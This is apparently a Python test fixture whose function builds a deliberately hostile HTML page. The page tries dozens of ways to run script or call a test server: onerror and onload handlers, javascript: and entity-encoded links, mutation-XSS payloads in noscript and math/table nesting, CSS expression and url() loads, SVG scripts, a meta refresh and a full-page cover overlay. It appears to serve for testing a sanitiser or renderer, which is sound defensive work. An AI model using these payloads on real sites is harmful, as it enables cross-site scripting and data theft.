# ruff: noqa: E501
"""A page that tries everything: each way in which HTML can run, load, send, open or cover something."""

from __future__ import annotations


def hostile(server: str) -> str:
    """The page; every attempt calls `server` with a name of its own."""
    return f"""<!DOCTYPE html><html manifest="{server}/manifest"><head><title>公告</title>
<meta charset="utf-8"><meta http-equiv="refresh" content="0;url={server}/refresh">
<base href="{server}/base/"><link rel="stylesheet" href="{server}/css"><link rel="preload" as="script" href="{server}/pre">
<link rel="prefetch" href="{server}/prefetch"><link rel="dns-prefetch" href="{server}/dns">
<link rel="icon" href="{server}/icon"><script src="{server}/js"></script>
<script>new Image().src="{server}/inline"; document.write('<img src="{server}/written">')</script>
<style>@import url("{server}/import"); body{{background:url({server}/bg)}} @font-face{{font-family:x;src:url({server}/font)}}
.capture{{display:none}} .cover{{position:fixed;inset:0;z-index:99999;background:#fff}}</style></head>
<body background="{server}/body" onload="fetch('{server}/onload')" style="background:url('{server}/style')">
<h1 onclick="location='{server}/click'">关于开展检查的通知</h1><p style="position:fixed;top:0;left:0;color:red">盖住</p>
<img src="{server}/img" srcset="{server}/srcset 2x" onerror="fetch('{server}/onerror')" alt="照片">
<img src=x onerror=fetch('{server}/unquoted')><img src="data:image/svg+xml,<svg onload=fetch('{server}/svgdata')>">
<picture><source srcset="{server}/source"><img src="{server}/picture"></picture>
<a href="{server}/link" ping="{server}/ping" target="_blank">链接文字</a><a href="javascript:fetch('{server}/js-link')">按</a>
<a href="&#106;avascript:fetch('{server}/entity')">按二</a><area href="{server}/area"><map><area href="{server}/area2"></map>
<form action="{server}/form" method="post"><input name="q" autofocus onfocus="fetch('{server}/focus')"><button formaction="{server}/formaction">提交</button>
<input type="image" src="{server}/input-image"><select onchange=alert(1)><option>选项甲<option>选项乙</select></form>
<iframe src="{server}/iframe" srcdoc="<script>parent.x=1</script>"></iframe><object data="{server}/object"><param name=x></object>
<embed src="{server}/embed"><video src="{server}/video" poster="{server}/poster" autoplay></video><audio src="{server}/audio"></audio>
<svg onload="fetch('{server}/svg')"><image href="{server}/svg-image"/><use href="{server}/use#a"/><script>fetch('{server}/svg-script')</script>
<foreignObject><img src="{server}/foreign"></foreignObject></svg><math href="{server}/math"><mi xlink:href="javascript:1">x</mi></math>
<table background="{server}/table"><tr><td background="{server}/td">格子</td></tr></table>
<noscript><p title="</noscript><img src={server}/mxss onerror=fetch('{server}/mxss2')>">旧浏览器</p></noscript>
<template><img src="{server}/template"></template><xmp><img src="{server}/xmp"></xmp><plaintext-x>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={server}/mutation onerror=alert(1)&gt;">
</table></mtext></math><isindex action="{server}/isindex"><marquee onstart="fetch('{server}/marquee')">滚动</marquee>
<bgsound src="{server}/bgsound"><frameset><frame src="{server}/frame"></frameset><layer src="{server}/layer"></layer>
<div style="width:expression(fetch('{server}/expression'));behavior:url({server}/behavior);list-style:url({server}/list);
cursor:url({server}/cursor),auto;content:url({server}/content);border-image:url({server}/border-image);color:green">绿字</div>
<details open ontoggle="fetch('{server}/toggle')"><summary>摘要</summary>细节</details>
<b class="capture" id="location">正文结束</b><script>/* never closed: fetch('{server}/open')
"""
